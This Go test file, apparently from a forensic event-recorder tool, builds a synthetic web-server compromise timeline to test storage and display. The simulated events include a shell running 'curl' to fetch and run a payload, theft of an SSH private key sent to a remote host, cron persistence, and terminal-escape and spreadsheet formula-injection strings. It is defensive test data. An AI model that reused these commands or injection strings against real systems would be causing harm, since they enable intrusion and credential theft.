package main

import (
	"path/filepath"
	"testing"

	"hindcast/format/clock"
	"hindcast/format/event"
	"hindcast/format/segment"
	"hindcast/format/store"
)

// The incident of the scripts: a web server runs a shell, which fetches, runs and deletes a
// payload that reads a secret and connects out. Names carry what a terminal must not get.
const (
	second = clock.Boot(1e9)
	t0     = 1000 * second
)

// wall0 is the wall time of boot time 0: 2026-11-02 03:00:00 UTC minus 1000 s.
const wall0 = 1793588400*1e9 - 1000*1e9

type who struct {
	pid   uint32
	start clock.Boot
	image uint32
	comm  string
}

var (
	systemd = who{1, 1 * second, 1, "systemd"}
	nginx   = who{812, 900 * second, 2, "nginx"}
	shell   = who{2411, t0 + 2*second, 3, "sh"}
	curl    = who{2412, t0 + 3*second, 4, "curl"}
	payload = who{2415, t0 + 5*second, 4, ".x"}
	evil    = who{2416, t0 + 6*second, 3, "e\x1b[2J\r\xff"}
)

func incident() []event.Row {
	var rows []event.Row
	add := func(at clock.Boot, w who, t event.Type, set func(r *event.Row)) {
		r := event.Row{Type: t, TS: at, PID: w.pid, TID: w.pid, PStart: uint64(w.start), Image: w.image, Cred: 1, Comm: []byte(w.comm), CPU: uint16(w.pid % 2)}
		if set != nil {
			set(&r)
		}
		rows = append(rows, r)
	}
	note := func(at clock.Boot, action, detail string) {
		rows = append(rows, event.Row{Type: event.Recorder, TS: at, Flags: event.FlagRecorder, Text: []byte(action), Text2: []byte(detail)})
	}
	alive := func(w, parent who, exe string) {
		add(t0, w, event.Process, func(r *event.Row) {
			r.Flags = event.FlagSnapshot
			r.Path, r.Path3, r.Argv = []byte(exe), []byte("/"), []byte(exe+"\x00")
			r.Dev, r.Ino, r.Mode, r.N3 = 2049, uint64(w.pid)*7, 0o100755, 1
			r.OPID, r.OStart = parent.pid, uint64(parent.start)
		})
	}
	fork := func(at clock.Boot, w, child who) {
		add(at, w, event.Fork, func(r *event.Row) {
			r.OPID, r.OStart, r.OTID, r.N3, r.N4, r.N2 = child.pid, uint64(child.start), child.pid, int64(w.pid), int64(w.start), 17
		})
	}
	exec := func(at clock.Boot, w who, exe string, ino uint64, argv string) {
		add(at, w, event.Exec, func(r *event.Row) {
			r.Path, r.Path2, r.Text, r.Path3, r.Argv = []byte(exe), []byte(exe), []byte(exe), []byte("/srv"), []byte(argv)
			r.Dev, r.Ino, r.Mode, r.N3, r.OTID = 2049, ino, 0o100755, 1, w.pid
		})
	}
	exit := func(at clock.Boot, w who, code, sig int64) {
		add(at, w, event.Exit, func(r *event.Row) { r.N1, r.N2, r.Op = code, sig, 2 })
	}
	file := func(at clock.Boot, w who, t event.Type, path string, ino uint64, ret int64, op uint32) {
		add(at, w, t, func(r *event.Row) {
			r.Path, r.Dev, r.Ino, r.Mode, r.Ret, r.Op = []byte(path), 2049, ino, 0o100644, ret, op
			r.FD = 3
		})
	}
	tcp := func(at clock.Boot, w who, t event.Type, cookie uint64, lport uint16, raddr string, rport uint16, set func(r *event.Row)) {
		add(at, w, t, func(r *event.Row) {
			r.Cookie, r.Family, r.Proto, r.NetNS = cookie, 2, 6, 4026531840
			r.LAddr, r.LPort, r.RAddr, r.RPort = []byte("192.0.2.10"), lport, []byte(raddr), rport
			if set != nil {
				set(r)
			}
		})
	}
	note(t0, "start", "hindcast test")
	rows = append(rows,
		event.Row{Type: event.Coverage, TS: t0, Flags: event.FlagRecorder, Text: []byte("sys_exit_openat"), N1: 1, Op: 1, N2: 1 << event.Open, Text2: []byte("open")},
		event.Row{Type: event.Coverage, TS: t0, Flags: event.FlagRecorder, Text: []byte("sys_exit_write"), N1: 1, Op: 1, N2: 1<<event.FirstRead | 1<<event.FirstWrite, Text2: []byte("read, write")},
		event.Row{Type: event.Coverage, TS: t0, Flags: event.FlagRecorder, Text: []byte("io_uring_submit_req"), N1: 0, Op: 1, N2: 1<<event.FirstRead | 1<<event.FirstWrite, Text2: []byte("io_uring requests are not seen")})
	add(t0, who{}, event.Cred, func(r *event.Row) {
		r.Flags, r.Cred, r.Comm = event.FlagSnapshot, 1, nil
		r.N1, r.N2, r.N3, r.N4, r.N5, r.N6 = 33, 33, 33, 33, 33, 33
	})
	alive(systemd, who{}, "/usr/lib/systemd/systemd")
	alive(nginx, systemd, "/usr/sbin/nginx")
	note(t0, "snapshot-end", "")
	tcp(t0+second, nginx, event.Accept, 70, 80, "198.51.100.7", 51022, func(r *event.Row) { r.Ret = 9 })
	tcp(t0+second+1e6, nginx, event.SockFirst, 70, 80, "198.51.100.7", 51022, func(r *event.Row) { r.Op, r.Ret = 2, 312 })
	fork(t0+2*second, nginx, shell)
	exec(t0+2*second+1e6, shell, "/bin/sh", 500, "sh\x00-c\x00id; curl -s http://203.0.113.9/.x\x00")
	fork(t0+3*second, shell, curl)
	exec(t0+3*second+1e6, curl, "/usr/bin/curl", 501, "curl\x00-s\x00http://203.0.113.9/.x\x00")
	tcp(t0+3*second+5e6, curl, event.Connect, 71, 40000, "203.0.113.9", 443, func(r *event.Row) { r.T0 = t0 + 3*second + 4e6 })
	tcp(t0+3*second+9e6, curl, event.SockFirst, 71, 40000, "203.0.113.9", 443, func(r *event.Row) { r.Op, r.Ret = 2, 1448 })
	file(t0+4*second, curl, event.Open, "/tmp/.x", 900, 3, 0o1101)
	rows[len(rows)-1].N1 = 1
	file(t0+4*second+1e6, curl, event.FirstWrite, "/tmp/.x", 900, 4096, 0)
	add(t0+4*second+5e8, curl, event.IO, func(r *event.Row) {
		r.Dev, r.Ino, r.Mode, r.T0, r.N2, r.N4, r.BytesOut, r.OpsOut, r.Op = 2049, 900, 0o100644, t0+4*second+1e6, int64(t0+4*second+4e8), int64(t0+4*second+4e8), 49152, 12, 3
	})
	tcp(t0+4*second+6e8, curl, event.ConnClose, 71, 40000, "203.0.113.9", 443, func(r *event.Row) {
		r.T0, r.BytesIn, r.BytesOut, r.Op = t0+3*second+4e6, 49600, 80, 1
	})
	exit(t0+4*second+7e8, curl, 0, 0)
	add(t0+4*second+8e8, shell, event.Chmod, func(r *event.Row) { r.Path, r.N1 = []byte("/tmp/.x"), 0o755 })
	fork(t0+5*second, shell, payload)
	exec(t0+5*second+1e6, payload, "/tmp/.x", 900, "/tmp/.x\x00")
	file(t0+5*second+2e6, payload, event.Open, "/home/app/.ssh/id_rsa", 910, 3, 0o100000)
	file(t0+5*second+3e6, payload, event.FirstRead, "/home/app/.ssh/id_rsa", 910, 2602, 0)
	tcp(t0+5*second+5e6, payload, event.Connect, 72, 40001, "203.0.113.9", 8443, func(r *event.Row) { r.T0 = t0 + 5*second + 4e6 })
	tcp(t0+5*second+6e6, payload, event.SockFirst, 72, 40001, "203.0.113.9", 8443, func(r *event.Row) { r.Op, r.Ret = 1, 2602 })
	add(t0+5*second+8e6, payload, event.Unlink, func(r *event.Row) { r.Path = []byte("/tmp/.x") })
	file(t0+5*second+9e6, payload, event.Open, "/etc/cron.d/updater", 920, 4, 0o1101)
	file(t0+5*second+10e6, payload, event.FirstWrite, "/etc/cron.d/updater", 920, 64, 0)
	add(t0+5*second+2e7, payload, event.OpenFailed, func(r *event.Row) {
		r.Path, r.Ret, r.Flags = []byte("/etc/shadow"), -13, event.FlagFailed
	})
	fork(t0+6*second, shell, evil)
	exec(t0+6*second+1e6, evil, "/tmp/a\nb\u202ecod\x07\xfe", 930, "e\x1b]0;owned\x07\x00=cmd|'/c calc'!A1\x00")
	file(t0+6*second+2e6, evil, event.FirstWrite, "/tmp/=\u0085\x9b31m\x00", 931, 1, 0)
	exit(t0+6*second+3e6, evil, 0, 9)
	exit(t0+9*second, shell, 1, 0)
	rows = append(rows, event.Row{Type: event.Ledger, TS: t0 + 8*second, T0: t0 + 7*second, Flags: event.FlagRecorder, CPU: 1, N1: int64(event.FirstRead), N2: 812,
		Text: []byte("ring_full"), Text2: []byte("bulk ring")})
	note(t0+10*second, "stop", "")
	return rows
}

// writeIncident writes the incident as a store and returns its path.
func writeIncident(t testing.TB, dir string) string {
	t.Helper()
	path := filepath.Join(dir, "web-3")
	s, err := store.Create(path, store.Options{Meta: segment.Meta{Host: "web-3", MachineID: "m", BootID: "4f6f0b6e-0000-4000-8000-000000000001", Kernel: "6.12.9", Arch: "amd64",
		Recorder: "0.1-test", Clock: clock.Pair{Boot: 0, Wall: wall0}, CPUs: 2, Started: t0}})
	if err != nil {
		t.Fatal(err)
	}
	var c event.Columns
	for _, r := range incident() {
		c.Append(&r)
	}
	c.Finish()
	if err := s.Append(&c); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}
